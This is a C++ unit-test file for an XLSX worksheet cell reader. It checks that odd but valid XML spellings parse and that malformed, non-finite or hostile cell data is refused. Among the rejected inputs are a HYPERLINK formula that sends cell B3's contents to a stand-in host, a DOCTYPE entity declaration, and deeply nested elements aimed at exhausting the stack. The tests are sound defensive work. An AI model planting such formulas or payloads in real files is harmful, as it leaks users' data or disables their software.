// The cell data of a worksheet, read as a stream: every spelling of XML other writers use must
// read as the document it is, and damaged cell data must be refused, never half-read.
#include "sheet/io_messages.h"
#include "sheet/workbook_io.h"
#include "support/workbook_parts.h"

#include <gtest/gtest.h>

namespace sheet {
namespace {

using test_support::minimalWorkbook;
using test_support::PackageParts;
using test_support::readPackageParts;
using test_support::worksheetXml;

class XlsxCellStream : public ::testing::Test {
protected:
    std::unique_ptr<Workbook> readSheet(const std::string& sheetXml) {
        PackageParts parts = minimalWorkbook({"Sheet1"}, {});
        parts["xl/worksheets/sheet1.xml"] = sheetXml;
        return readPackageParts(parts);
    }
    std::string readError(const std::string& sheetXml) {
        try {
            readSheet(sheetXml);
        } catch (const FileError& error) {
            return error.what();
        }
        ADD_FAILURE() << "no error for " << sheetXml;
        return {};
    }
    static CellValue valueAt(const Workbook& workbook, long row, long column) {
        const Cell* cell = workbook.sheets[0]->cell(row, column);
        return cell ? cell->value : CellValue{};
    }
};

TEST_F(XlsxCellStream, ReadsPrefixedCommentedAndEscapedCellData) {
    const auto workbook = readSheet(
        R"(<?xml version="1.0"?><!-- <sheetData> in a comment is no data -->)"
        R"(<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)"
        R"(<x:sheetPr/><x:sheetData><?pi <c r="Z9"?>)"
        R"(<x:row r='2' ht="30" customHeight="1"><x:c r="A2" t='inlineStr'><x:is>)"
        R"(<x:t>a &amp; b &lt;&#xAC00;&#44032;&gt;</x:t></x:is></x:c>)"
        R"(<!-- <x:c r="B2"><x:v>9</x:v></x:c> -->)"
        R"(<x:c r="C2" t="str"><x:v><![CDATA[<cdata>]]></x:v></x:c>)"
        R"(<x:c r="D2"><x:f>SUM(1,"&gt;")</x:f><x:v> 3 </x:v></x:c>)"
        R"(<x:c r="E2" t="inlineStr"><x:is><x:r><x:rPr><x:b/></x:rPr><x:t>굵게</x:t></x:r>)"
        R"(<x:r><x:t xml:space="preserve"> 보통</x:t></x:r><x:rPh><x:t>음</x:t></x:rPh></x:is></x:c>)"
        R"(<x:c r="F2" t="str"><x:v>x_x000A_y</x:v></x:c></x:row></x:sheetData>)"
        R"(<x:mergeCells><x:mergeCell ref="A5:B6"/></x:mergeCells></x:worksheet>)");
    const Worksheet& sheet = *workbook->sheets[0];
    EXPECT_EQ(valueAt(*workbook, 2, 1), CellValue::Text("a & b <가가>"));
    EXPECT_EQ(sheet.cell(2, 2), nullptr);
    EXPECT_EQ(valueAt(*workbook, 2, 3), CellValue::Text("<cdata>"));
    EXPECT_EQ(sheet.cell(2, 4)->formula, "SUM(1,\">\")");
    EXPECT_EQ(valueAt(*workbook, 2, 4), CellValue::Number(3));
    EXPECT_EQ(valueAt(*workbook, 2, 5), CellValue::Text("굵게 보통"));
    EXPECT_EQ(valueAt(*workbook, 2, 6), CellValue::Text("x\ny"));
    EXPECT_EQ(sheet.rowHeights.at(2), 30);
    EXPECT_EQ(sheet.cell(9, 26), nullptr);
    // What follows the cell data is still read.
    ASSERT_EQ(sheet.merges.size(), 1u);
    EXPECT_EQ(sheet.merges[0].firstRow, 5);
}

// A cell whose only child is a plain <v> is read by a shortcut; one with more, or a value to
// decode, goes on through the general walk from where the shortcut stopped.
TEST_F(XlsxCellStream, CellsOfOnePlainValueAndAnyOtherReadAlike) {
    const auto workbook = readSheet(worksheetXml(
        R"(<sheetData><row r="3"><c r="A3"><v>1</v></c><c r="B3"><v>2</v><extLst><ext/></extLst>)"
        R"(</c><c r="C3"><v>3</v> </c><c r="D3" t="str"><v>a&amp;b</v></c>)"
        R"(<c r="E3"><v>4</v><v>5</v></c><c r="F3" t="str"><v>x</v></c ><c><v>7</v></c>)"
        R"(</row></sheetData>)"));
    EXPECT_EQ(valueAt(*workbook, 3, 1), CellValue::Number(1));
    EXPECT_EQ(valueAt(*workbook, 3, 2), CellValue::Number(2));
    EXPECT_EQ(valueAt(*workbook, 3, 3), CellValue::Number(3));
    EXPECT_EQ(valueAt(*workbook, 3, 4), CellValue::Text("a&b"));
    EXPECT_EQ(valueAt(*workbook, 3, 5), CellValue::Number(5));
    EXPECT_EQ(valueAt(*workbook, 3, 6), CellValue::Text("x"));
    EXPECT_EQ(valueAt(*workbook, 3, 7), CellValue::Number(7));

    for (const char* damaged :
         {R"(<row r="1"><c r="A1"><v>1</v></d></row>)", R"(<row r="1"><c r="A1"><v>1</v></row>)",
          R"(<row r="1"><c r="A1"><v>1</v>)"}) {
        const std::string message =
            readError(worksheetXml(std::string("<sheetData>") + damaged + "</sheetData>"));
        EXPECT_NE(message.find(io_messages::kMalformedXml), std::string::npos) << damaged;
    }
}

TEST_F(XlsxCellStream, AnEmptyValueIsAnEmptyCellWhateverItsType) {
    const auto workbook = readSheet(
        worksheetXml(R"(<sheetData><row r="1"><c r="A1" t="s"><v/></c><c r="B1" t="e"><v></v></c>)"
                     R"(<c r="C1" t="b"><v/></c><c r="D1" t="n"><v/></c>)"
                     R"(</row></sheetData>)"));
    const Worksheet& sheet = *workbook->sheets[0];
    for (long column = 1; column <= 4; ++column)
        EXPECT_EQ(sheet.cell(1, column), nullptr) << column;
    // The shared string index is checked where there is one.
    EXPECT_NE(readError(worksheetXml(R"(<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>)"
                                     R"(</row></sheetData>)"))
                  .find(io_messages::kTooManyStrings),
              std::string::npos);
}

TEST_F(XlsxCellStream, AcceptsOnlyTheKnownErrorValues) {
    std::string known;
    const char* codes[] = {"#NULL!", "#DIV/0!", "#VALUE!", "#REF!",
                           "#NAME?", "#NUM!",   "#N/A",    "#GETTING_DATA"};
    for (int i = 0; i < 8; ++i)
        known += "<c r=\"" + std::string(1, static_cast<char>('A' + i)) + "1\" t=\"e\"><v>" +
                 codes[i] + "</v></c>";
    const auto workbook =
        readSheet(worksheetXml("<sheetData><row r=\"1\">" + known + "</row></sheetData>"));
    for (int i = 0; i < 8; ++i)
        EXPECT_EQ(valueAt(*workbook, 1, i + 1), CellValue::Error(codes[i]));

    // A formula dressed as an error value would be planted in a result by a values-only run.
    for (const char* planted :
         {R"(HYPERLINK("http://x.example/?"&amp;B3,"#N/A"))", "#n/a", "#N/A ", "=1+1", "#SPILL!"}) {
        SCOPED_TRACE(planted);
        const std::string message =
            readError(worksheetXml(std::string(R"(<sheetData><row r="1"><c r="A1" t="e"><v>)") +
                                   planted + "</v></c></row></sheetData>"));
        EXPECT_NE(message.find(io_messages::kUnknownErrorValue), std::string::npos) << message;
    }
}

TEST_F(XlsxCellStream, NonFiniteAndOutOfRangeNumbersNeverBecomeIntegers) {
    const char* damagedBodies[] = {
        R"(<sheetData><row r="nan"/></sheetData>)",
        R"(<sheetData><row r="1e300"/></sheetData>)",
        R"(<sheetData><row r="inf"/></sheetData>)",
        R"(<sheetData><row r="2.5"/></sheetData>)",
        R"(<sheetData><row r="-1e19"/></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1" s="nan"><v>1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1" s="1e300"><v>1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1" s="-3"><v>1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1" customFormat="1" s="NaN"/></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1" t="s"><v>nan</v></c></row></sheetData>)",
        R"(<cols><col min="nan" max="3"/></cols><sheetData/>)",
        R"(<cols><col min="1" max="1e300"/></cols><sheetData/>)",
    };
    for (const char* body : damagedBodies) {
        SCOPED_TRACE(body);
        readError(worksheetXml(body));
    }

    // Where a number is only a setting, a non-finite one is ignored; a cell holding one shows
    // the error a spreadsheet gives for a number it cannot hold.
    const auto workbook = readSheet(worksheetXml(
        R"(<sheetFormatPr defaultRowHeight="nan" baseColWidth="inf"/>)"
        R"(<sheetViews><sheetView zoomScale="1e300"/></sheetViews>)"
        R"(<sheetData><row r="1.0" ht="NaN"><c r="A1"><v>NaN</v></c><c r="B1"><v>-INF</v></c>)"
        R"(<c r="C1"><v>1e999</v></c><c r="D1"><v>2.5</v></c></row></sheetData>)"
        R"(<pageMargins left="nan" right="inf" top="1" bottom="1" header="0" footer="0"/>)"
        R"(<pageSetup scale="nan" fitToWidth="1e99" paperSize="inf"/>)"));
    const Worksheet& sheet = *workbook->sheets[0];
    EXPECT_EQ(valueAt(*workbook, 1, 1), CellValue::Error("#NUM!"));
    EXPECT_EQ(valueAt(*workbook, 1, 2), CellValue::Error("#NUM!"));
    EXPECT_EQ(valueAt(*workbook, 1, 3), CellValue::Error("#NUM!"));
    EXPECT_EQ(valueAt(*workbook, 1, 4), CellValue::Number(2.5));
    EXPECT_TRUE(sheet.rowHeights.empty());
    EXPECT_EQ(sheet.zoom, Worksheet("x").zoom);
    EXPECT_EQ(sheet.pageSetup.leftMargin, PageSetup{}.leftMargin);
}

TEST_F(XlsxCellStream, RefusesMalformedCellData) {
    const char* bodies[] = {
        R"(<sheetData><row r="1"><c r="A1"><v>1</v></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1"><v>1</c></v></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1><v>1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1"><c r=A1><v>1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1"><v><![CDATA[1</v></c></row></sheetData>)",
        R"(<sheetData><row r="1"><!-- unclosed </row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1"><x><y><z></y></x></c></row></sheetData>)",
        R"(<sheetData><row r="1"><c r="A1"><v>1</v></c></row>)",
        R"(<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</is></c></row></sheetData>)",
    };
    for (const char* body : bodies) {
        SCOPED_TRACE(body);
        const std::string message = readError(worksheetXml(body));
        EXPECT_NE(message.find(io_messages::kMalformedXml), std::string::npos) << message;
    }
    const std::string doctype =
        readError(R"(<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e "x">]><worksheet><sheetData>)"
                  R"(<row r="1"><c r="A1" t="str"><v>&e;</v></c></row></sheetData></worksheet>)");
    EXPECT_NE(doctype.find(io_messages::kDoctype), std::string::npos) << doctype;
}

TEST_F(XlsxCellStream, ElementsNestedWithoutEndAreRefusedWithoutExhaustingTheStack) {
    std::string deep;
    for (int i = 0; i < 100000; ++i)
        deep += "<x>";
    const std::string message = readError(
        worksheetXml("<sheetData><row r=\"1\"><c r=\"A1\">" + deep + "</c></row></sheetData>"));
    EXPECT_NE(message.find(io_messages::kMalformedXml), std::string::npos) << message;
}

} // namespace
} // namespace sheet
